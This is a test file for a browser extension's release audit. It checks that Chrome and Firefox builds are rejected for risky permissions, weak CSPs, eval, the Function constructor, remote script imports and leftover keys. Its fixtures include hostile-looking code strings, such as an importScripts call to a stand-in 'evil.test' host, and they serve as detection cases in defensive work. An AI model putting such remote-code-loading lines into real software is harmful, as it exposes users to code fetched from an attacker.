import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { auditDist, auditFiles } from '../../scripts/audit-dist';
import { manifestFor } from '../../scripts/vite/manifest';

const source = JSON.parse(readFileSync('manifest.json', 'utf8')) as Record<string, unknown>;
/** The manifest as the build writes it: the worker entry becomes the loader. */
const released: Record<string, unknown> = {
  ...source,
  background: { service_worker: 'service-worker-loader.js', type: 'module' },
};

/** Firefox's, as built: an event page. */
const firefox: Record<string, unknown> = {
  ...(manifestFor({ target: 'firefox', e2e: false }) as unknown as Record<string, unknown>),
  background: { scripts: ['service-worker-loader.js'], type: 'module' },
};
const gecko = firefox.browser_specific_settings as { gecko: Record<string, unknown> };

const dirs: string[] = [];
function fakeDist(manifest: Record<string, unknown>, files: Record<string, string> = {}): string {
  const dir = mkdtempSync(join(tmpdir(), 'otter-audit-'));
  dirs.push(dir);
  writeFileSync(join(dir, 'manifest.json'), JSON.stringify(manifest));
  const all = {
    'service-worker-loader.js': "import './assets/worker.js';",
    'assets/worker.js': 'export {};',
    ...files,
  };
  for (const [name, content] of Object.entries(all)) {
    mkdirSync(join(dir, name, '..'), { recursive: true });
    writeFileSync(join(dir, name), content);
  }
  return dir;
}
afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

describe('release audit', () => {
  it('passes the release manifest', () => {
    expect(auditDist(fakeDist(released))).toEqual([]);
  });

  it.each<[string, Record<string, unknown>, RegExp]>([
    [
      '<all_urls> host permission (the e2e variant)',
      { ...released, host_permissions: ['<all_urls>'] },
      /host_permissions/,
    ],
    [
      'a narrower host permission',
      { ...released, host_permissions: ['https://example.com/*'] },
      /host_permissions/,
    ],
    [
      '<all_urls> elsewhere',
      { ...released, optional_host_permissions: ['<all_urls>'] },
      /<all_urls>/,
    ],
    [
      'content scripts',
      { ...released, content_scripts: [{ matches: ['https://*/*'], js: ['a.js'] }] },
      /content_scripts/,
    ],
    [
      'web_accessible_resources',
      { ...released, web_accessible_resources: [{ resources: ['*'], matches: ['<all_urls>'] }] },
      /web_accessible_resources/,
    ],
    [
      'a permission that warns',
      { ...released, permissions: [...(released.permissions as string[]), 'tabs'] },
      /permission outside.*tabs/,
    ],
    ['clipboardRead', { ...released, permissions: ['storage', 'clipboardRead'] }, /clipboardRead/],
    [
      'a looser CSP',
      {
        ...released,
        content_security_policy: {
          extension_pages: "script-src 'self' 'unsafe-eval'; object-src 'self'",
        },
      },
      /CSP/,
    ],
    ['no CSP', { ...released, content_security_policy: undefined }, /CSP/],
    [
      'externally connectable',
      { ...released, externally_connectable: { ids: ['*'] } },
      /externally_connectable/,
    ],
    [
      'dev-server leftover',
      { ...released, background: { service_worker: 'http://localhost:5173/sw.js' } },
      /dev-server leftover/,
    ],
  ])('fails on %s', (_name, manifest, problem) => {
    const problems = auditDist(fakeDist(manifest));
    expect(problems.join('\n')).toMatch(problem);
  });

  it.each<[string, string, RegExp]>([
    ['eval', 'const x = eval("1+1");', /eval/],
    ['window.eval', 'window.eval(code)', /eval/],
    ['new Function', 'const f = new Function("return 1");', /Function constructor/],
    // What a minifier makes of webpack's global lookup (kdbxweb shipped one).
    ['Function without new', 'g=this||Function(`return this`)()', /Function constructor/],
    ['remote import()', 'await import("https://cdn.example.com/x.js")', /http\(s\)/],
    ['remote static import', 'import x from "https://cdn.example.com/x.js";', /http\(s\)/],
    ['remote importScripts', 'importScripts("http://evil.test/a.js")', /http\(s\)/],
    [
      'a CDN wasm URL',
      'const u = "https://fastly.jsdelivr.net/npm/zxing-wasm@3/dist/reader/zxing_reader.wasm";',
      /WebAssembly/,
    ],
    ['dev-server client', 'import "/@vite/client";', /dev-server/],
  ])('fails on a built file with %s', (_name, code, problem) => {
    const problems = auditDist(fakeDist(released, { 'assets/chunk.js': code }));
    expect(problems.join('\n')).toMatch(problem);
  });

  it('fails on a remote script tag in a page', () => {
    const html = '<script src="https://cdn.example.com/a.js"></script>';
    expect(auditDist(fakeDist(released, { 'popup/index.html': html })).join('\n')).toMatch(
      /loads a script/,
    );
  });

  it('does not flag ordinary words', () => {
    const code =
      'const evaluate = (x) => x; retrieval(1); isFunction(f); a.Function(1); const wasmUnsafeEval = "wasm-unsafe-eval";';
    expect(auditDist(fakeDist(released, { 'assets/chunk.js': code }))).toEqual([]);
  });

  it('fails when there is no manifest', () => {
    const dir = fakeDist(released);
    rmSync(join(dir, 'manifest.json'));
    expect(auditDist(dir)).toEqual([`${dir}/manifest.json is missing or not JSON`]);
  });
});

describe('release audit of the Firefox build', () => {
  it('passes the release manifest', () => {
    expect(auditDist(fakeDist(firefox))).toEqual([]);
    expect(auditDist(fakeDist(firefox), { browser: 'firefox' })).toEqual([]);
  });

  it('fails a build for the other browser than the one asked for', () => {
    expect(auditDist(fakeDist(firefox), { browser: 'chrome' })).toEqual([
      'built for firefox, not chrome',
    ]);
    expect(auditDist(fakeDist(released), { browser: 'firefox' })).toEqual([
      'built for chrome, not firefox',
    ]);
  });

  it.each<[string, Record<string, unknown>, string]>([
    [
      'a service worker beside the event page',
      { ...firefox, background: { scripts: ['a.js'], service_worker: 'a.js' } },
      'Firefox manifest has a service worker',
    ],
    [
      'two background scripts',
      { ...firefox, background: { scripts: ['a.js', 'b.js'] } },
      'background.scripts is not one script',
    ],
    [
      'another Gecko id',
      { ...firefox, browser_specific_settings: { gecko: { ...gecko.gecko, id: 'x@y.org' } } },
      'gecko id is not otter@otter-authenticator.org',
    ],
    [
      'no minimum version',
      {
        ...firefox,
        browser_specific_settings: {
          gecko: { ...gecko.gecko, strict_min_version: undefined },
        },
      },
      'no gecko strict_min_version',
    ],
    [
      'data collection declared',
      {
        ...firefox,
        browser_specific_settings: {
          gecko: { ...gecko.gecko, data_collection_permissions: { required: ['locationInfo'] } },
        },
      },
      'data_collection_permissions is not {"required":["none"]}',
    ],
    ['a key', { ...firefox, key: 'MIIB' }, 'Firefox manifest has key'],
    [
      'minimum_chrome_version',
      { ...firefox, minimum_chrome_version: '116' },
      'Firefox manifest has minimum_chrome_version',
    ],
    [
      'the offscreen permission',
      { ...firefox, permissions: [...(firefox.permissions as string[]), 'offscreen'] },
      'Firefox manifest asks for offscreen',
    ],
  ])('fails on %s', (_name, manifest, problem) => {
    expect(auditDist(fakeDist(manifest))).toContain(problem);
  });

  it('fails on Chromium’s offscreen code in the Firefox build', () => {
    const code = 'await chrome.offscreen.createDocument({ url: "offscreen/index.html" });';
    expect(auditDist(fakeDist(firefox, { 'assets/worker.js': code }))).toEqual([
      "assets/worker.js calls Chromium's offscreen API",
    ]);
    expect(auditDist(fakeDist(released, { 'assets/worker.js': code }))).toEqual([]);
  });

  it('fails on an offscreen document in the Firefox build', () => {
    expect(auditDist(fakeDist(firefox, { 'offscreen/index.html': '<p></p>' }))).toEqual([
      'offscreen/index.html: Firefox has no offscreen documents',
    ]);
  });

  it('fails a Chrome build without its service worker, its minimum version, or with Gecko settings', () => {
    const { minimum_chrome_version: _, ...noMinimum } = released;
    expect(auditDist(fakeDist(noMinimum))).toEqual(['no minimum_chrome_version']);
    expect(auditDist(fakeDist({ ...released, browser_specific_settings: gecko }))).toEqual([
      'Chrome manifest has Firefox settings',
    ]);
  });
});

describe('release audit of a store package', () => {
  const files = (manifest: Record<string, unknown>, extra: Record<string, string> = {}) =>
    new Map(
      Object.entries({
        'manifest.json': JSON.stringify(manifest),
        'service-worker-loader.js': "import './assets/worker.js';",
        ...extra,
      }),
    );

  it('refuses a key and source maps, which the unpacked build may have', () => {
    expect(auditFiles(files(released))).toEqual([]);
    const { key: _, ...keyless } = released;
    expect(auditFiles(files(keyless), { store: true })).toEqual([]);
    expect(auditFiles(files(released), { store: true })).toEqual(['store package has a key']);
    expect(auditFiles(files(keyless, { 'assets/worker.js.map': '{}' }), { store: true })).toEqual([
      'assets/worker.js.map is a source map',
    ]);
  });

  it('reads the manifest from bytes too', () => {
    const bytes = new Map([['manifest.json', new TextEncoder().encode(JSON.stringify(firefox))]]);
    expect(auditFiles(bytes, { browser: 'firefox' })).toEqual([]);
    expect(auditFiles(new Map())).toEqual(['manifest.json is missing or not JSON']);
  });
});
